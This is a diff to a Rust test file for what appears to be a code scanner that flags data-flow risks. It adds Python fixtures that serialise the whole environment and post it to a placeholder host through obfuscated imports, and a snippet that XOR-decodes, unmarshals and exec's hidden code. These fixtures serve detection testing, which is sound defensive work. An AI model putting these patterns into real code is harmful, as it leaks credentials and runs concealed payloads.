@@ -183,3 +183,20 @@ fn what_generators_of_javascript_hand_out_is_gone_through() {
     ));
     assert!(!told("yield 'README.md';"));
 }
+
+#[test]
+fn methods_that_are_asked_for_by_name_are_methods() {
+    for code in [
+        "u = __import__('urllib.request')\ngetattr(getattr(u, 'request'), 'urlopen')('https://h.invalid/', data=D)",
+        "getattr(__import__('urllib.request'), 'request').urlopen('https://h.invalid/', getattr(D, 'strip')())",
+        "__import__('urllib.request', fromlist=['x']).urlopen('https://h.invalid/', D)",
+        "__import__('urllib.request', None, None, ['x']).urlopen('https://h.invalid/', D)",
+        "import importlib, base64\nimportlib.import_module('urllib.request').urlopen('https://h.invalid/', getattr(base64, 'b64encode')(getattr(D, 'strip')()))",
+    ] {
+        let code = format!("import os, json\nD = json.dumps(dict(os.environ)).encode()\n{code}\n");
+        assert!(is_told(Language::Python, &code, "flow-environment-sent"), "{code}");
+    }
+    let hidden = "import marshal, hmac, hashlib\ndef d(k, b):\n    return bytes(x ^ y for x, y in zip(b, hmac.new(k, b'n', hashlib.sha256).digest()))\n\
+        code = marshal.loads(d(b'key', b'\\x01\\x02\\x03'))\nexec(code, globals())\n";
+    assert!(is_told(Language::Python, hidden, "flow-decoded-code"));
+}
